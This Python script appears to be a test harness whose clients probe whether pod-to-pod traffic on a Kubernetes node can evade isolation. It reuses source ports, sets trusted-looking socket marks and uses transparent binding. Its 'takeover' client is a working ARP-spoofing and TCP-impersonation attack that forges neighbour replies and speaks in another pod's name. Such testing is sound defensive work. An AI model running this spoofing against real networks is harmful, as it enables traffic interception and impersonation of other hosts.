"""Clients that want more than they may on the direct path between two pods of a node; each says how far it came."""

import argparse
import collections
import errno
import json
import select
import signal
import socket
import struct
import sys
import time

# Socket options without a name in Python's socket module (linux/in.h, linux/in6.h, linux/tcp.h).
IP_FREEBIND = 15
IP_TRANSPARENT = 19
IPV6_TRANSPARENT = 75
IPV6_FREEBIND = 78
TCP_FASTOPEN_CONNECT = 30
# Longer than any answer on one machine takes.
PATIENCE = 2
ETH_P_ALL = 3
ETH_P_IP = 0x0800
ETH_P_ARP = 0x0806
SYN, RST, PSH, ACK = 2, 4, 8, 16
# How often forged neighbour replies are repeated: the kernel believes no other one for a second after each.
REPEAT = 0.2


def say(**what):
    # One write: threads must not tear lines.
    print(json.dumps(what) + "\n", end="", flush=True)


def parse(text):
    host, port = text.rsplit(":", 1)
    return host.strip("[]"), int(port)


def new(host):
    return socket.socket(socket.AF_INET6 if ":" in host else socket.AF_INET)


def outcome(attempt):
    """What came back, or the name of the error."""
    try:
        return attempt() or "eof"
    except socket.timeout:
        return "timeout"
    except OSError as error:
        return errno.errorcode.get(error.errno, str(error))


def line_of(connection):
    text = b""
    while not text.endswith(b"\n"):
        more = connection.recv(256)
        if not more:
            break
        text += more
    return text.decode().strip()


def ports(arguments):
    """Connects from a range of own ports, again and again, each free again at once."""
    to = parse(arguments.to)
    ends = collections.Counter()
    deadline = time.monotonic() + arguments.seconds
    rounds = 0
    while time.monotonic() < deadline:
        rounds += 1
        for port in range(arguments.first, arguments.first + arguments.count):
            with new(to[0]) as connection:
                connection.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
                connection.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
                connection.settimeout(PATIENCE)

                def attempt():
                    connection.bind((arguments.bind, port))
                    connection.connect(to)
                    return line_of(connection)

                ends[outcome(attempt)] += 1
    say(ends=ends, rounds=rounds)


def late(arguments):
    """Connects, and speaks only after a signal; deferred, its SYN leaves no earlier than its first bytes."""
    signal.pthread_sigmask(signal.SIG_BLOCK, {signal.SIGUSR1})
    to = parse(arguments.to)
    connection = new(to[0])
    connection.settimeout(PATIENCE)
    if arguments.deferred:
        connection.setsockopt(socket.IPPROTO_TCP, TCP_FASTOPEN_CONNECT, 1)
    if arguments.bind:
        connection.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        connection.bind(parse(arguments.bind))
    connection.connect(to)
    say(connected=True)
    signal.sigwait({signal.SIGUSR1})

    def attempt():
        connection.sendall(b"x")
        return connection.recv(1).decode()

    say(end=outcome(attempt))


def options(arguments):
    """Connects with each socket option that other software takes for a sign of trust."""
    to = parse(arguments.to)
    v6 = ":" in to[0]
    level = socket.IPPROTO_IPV6 if v6 else socket.IPPROTO_IP
    transparent, freebind = (IPV6_TRANSPARENT, IPV6_FREEBIND) if v6 else (IP_TRANSPARENT, IP_FREEBIND)
    # Those of kube-proxy, Istio, Cilium and Calico among them.
    marks = [0, 1, 0x539, 0x1337, 0xE00, 0x4000, 0x8000, 0x10000, 0xFFFFFFFF]
    table = {f"mark {mark:#x}": [(socket.SOL_SOCKET, socket.SO_MARK, struct.pack("I", mark))] for mark in marks}
    table["device"] = [(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, b"eth0")]
    table["priority"] = [(socket.SOL_SOCKET, socket.SO_PRIORITY, 7)]
    table["reuse port"] = [(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)]
    table["transparent"] = [(level, transparent, 1)]
    table["fast open"] = [(socket.IPPROTO_TCP, TCP_FASTOPEN_CONNECT, 1)]
    binds = {}
    if arguments.bind:
        for name, option in (("transparent as another", transparent), ("free as another", freebind)):
            table[name] = [(level, option, 1)]
            binds[name] = arguments.bind
    ends = {}
    for name, settings in table.items():
        with new(to[0]) as connection:
            connection.settimeout(PATIENCE)

            def attempt():
                for setting in settings:
                    connection.setsockopt(*setting)
                if name in binds:
                    connection.bind((binds[name], 0))
                connection.connect(to)
                connection.sendall(b"x")
                return connection.recv(1).decode()

            ends[name] = outcome(attempt)
    say(ends=ends)


def mac(text):
    return bytes.fromhex(text.replace(":", ""))


def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    total = (total & 0xFFFF) + (total >> 16)
    return ~(total + (total >> 16)) & 0xFFFF


def tcp_frame(ends, flags, numbers, data=b""):
    """An Ethernet frame with a TCP segment. `ends`: link addresses, addresses and ports, source first."""
    links, hosts, tcp_ports = ends
    addresses = b"".join(socket.inet_aton(host) for host in hosts)
    segment = struct.pack("!HHIIBBHHH", *tcp_ports, *numbers, 5 << 4, flags, 0xFFFF, 0, 0) + data
    pseudo = addresses + struct.pack("!BBH", 0, 6, len(segment)) + segment
    pseudo += b"\0" * (len(pseudo) % 2)
    segment = segment[:16] + struct.pack("!H", checksum(pseudo)) + segment[18:]
    header = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(segment), 1, 0, 64, 6, 0) + addresses
    header = header[:10] + struct.pack("!H", checksum(header)) + header[12:]
    return links[1] + links[0] + struct.pack("!H", ETH_P_IP) + header + segment


def takeover(arguments):
    """A neighbour that forges ARP replies for two pods, swallows the client's SYN and sends one of its own in its name."""
    own = mac(arguments.mac)
    client, server = arguments.client, parse(arguments.to)
    macs = {client: mac(arguments.client_mac), server[0]: mac(arguments.server_mac)}
    link = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ALL))
    link.bind(("eth0", 0))

    def forge():
        # Each is told that the other's address is here.
        for victim, claimed in ((client, server[0]), (server[0], client)):
            arp = struct.pack("!HHBBH", 1, ETH_P_IP, 6, 4, 2) + own + socket.inet_aton(claimed)
            arp += macs[victim] + socket.inet_aton(victim)
            link.send(macs[victim] + own + struct.pack("!H", ETH_P_ARP) + arp)

    seen = collections.Counter()
    answer, port, sequence = b"", None, 1000
    deadline, next_forgery = time.monotonic() + arguments.seconds, 0
    forge()
    say(ready=True)
    while time.monotonic() < deadline and not answer:
        if time.monotonic() > next_forgery:
            forge()
            next_forgery = time.monotonic() + REPEAT
        if not select.select([link], [], [], REPEAT / 2)[0]:
            continue
        frame, address = link.recvfrom(65536)
        if address[2] == socket.PACKET_OUTGOING or frame[12:14] != b"\x08\x00" or frame[23] != 6:
            continue
        segment = frame[14 + (frame[14] & 15) * 4 :]
        segment = segment[: struct.unpack("!H", frame[16:18])[0] - (frame[14] & 15) * 4]
        hosts = socket.inet_ntoa(frame[26:30]), socket.inet_ntoa(frame[30:34])
        tcp_ports = struct.unpack("!HH", segment[:4])
        theirs, _ = struct.unpack("!II", segment[4:12])
        flags, data = segment[13], segment[(segment[12] >> 4) * 4 :]
        if hosts == (client, server[0]):
            seen["from the client"] += 1
            if tcp_ports[1] == server[1] and flags & SYN and port is None:
                port = tcp_ports[0]
                ends = (own, macs[server[0]]), hosts, tcp_ports
                link.send(tcp_frame(ends, SYN, (sequence, 0)))
        elif hosts == (server[0], client) and tcp_ports == (server[1], port):
            seen["from the server"] += 1
            ends = (own, macs[server[0]]), (client, server[0]), (port, server[1])
            if flags & SYN:
                link.send(tcp_frame(ends, ACK, (sequence + 1, theirs + 1)))
                link.send(tcp_frame(ends, ACK | PSH, (sequence + 1, theirs + 1), b"x"))
            answer = data
    say(seen=seen, answer=answer.decode(errors="replace"))


def main():
    parser = argparse.ArgumentParser()
    clients = {client.__name__: client for client in (ports, late, options, takeover)}
    parser.add_argument("what", choices=clients)
    parser.add_argument("--to", required=True, help="address and port of the server")
    parser.add_argument("--bind", help="address to connect from; for late with a port")
    parser.add_argument("--first", type=int, default=20000, help="first own port")
    parser.add_argument("--count", type=int, default=1, help="number of own ports")
    parser.add_argument("--seconds", type=float, default=5, help="for how long")
    parser.add_argument("--deferred", action="store_true", help="the SYN leaves with the first bytes")
    parser.add_argument("--client", help="address of the pod to speak for")
    parser.add_argument("--mac", help="own link address")
    parser.add_argument("--client-mac", help="the client's link address")
    parser.add_argument("--server-mac", help="the server's link address")
    arguments = parser.parse_args()
    clients[arguments.what](arguments)


sys.exit(main())
